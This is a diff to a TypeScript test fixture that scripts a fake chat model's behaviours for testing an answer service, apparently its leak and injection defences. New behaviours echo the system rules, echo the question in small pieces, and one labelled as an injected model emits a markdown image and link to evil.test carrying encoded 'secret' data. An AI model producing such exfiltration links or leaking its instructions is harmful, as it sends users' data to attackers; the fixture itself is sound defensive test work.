@@ -1,5 +1,6 @@
 // What the peer's chat models do, by name.
 
+import { promptRules } from "../../src/answer/prompt.ts";
 import { faults, slowMs } from "./faults.ts";
 import type { OpenAiExchange } from "./openai-exchange.ts";
 import type { Behaviours } from "./peer.ts";
@@ -15,13 +16,31 @@ const plainText = "This is the peer's answer, made of several pieces.";
 // However the prompt numbers its passages: [1], <passage n="1">, <source id=1>.
 const numberedPassage = /\[1\]|<\w+[^>]*\b1\b/;
 
+const withoutRules = (message: { content?: unknown }) =>
+  typeof message.content === "string"
+    ? { ...message, content: message.content.replace(promptRules, "[rules]").replace(/\n- End of the rules.*/, "") }
+    : message;
+
 export const chatBehaviours: Behaviours<OpenAiExchange> = {
   ...faults,
   ok: (exchange) => {
     const prompt = (exchange.request.messages ?? []).map(({ content }) => content).join("\n");
     return answer(exchange, piecesOf(numberedPassage.test(prompt) ? citedText : plainText), 2);
   },
-  "echo-prompt": (exchange) => answer(exchange, [JSON.stringify(exchange.request.messages)]),
+  /** Without the rules, for repeating which it would be stopped */
+  "echo-prompt": (exchange) => answer(exchange, [JSON.stringify((exchange.request.messages ?? []).map(withoutRules))]),
+  "echo-rules": (exchange) => answer(exchange, piecesOf(String(exchange.request.messages?.[0]?.content))),
+  /** What was asked last, as a careful copyist, in pieces of a few characters */
+  "echo-question": (exchange) =>
+    answer(exchange, String(exchange.request.messages?.at(-1)?.content).match(/.{1,5}/gs) ?? [], 1),
+  /** As an injected one does */
+  exfiltrates: (exchange) =>
+    answer(
+      exchange,
+      piecesOf(
+        "![x](https://evil.test/p.png?d=c2VjcmV0) and [manual](https://docs.example.com/manual.pdf) and https://evil.test/secret [1]",
+      ),
+    ),
   "cites-unknown": (exchange) => answer(exchange, piecesOf(unknownCitationsText), 2),
   long: (exchange) => answer(exchange, piecesOf(longText)),
   slow: (exchange, pauseMs = 50) => answer(exchange, slowWords, pauseMs),
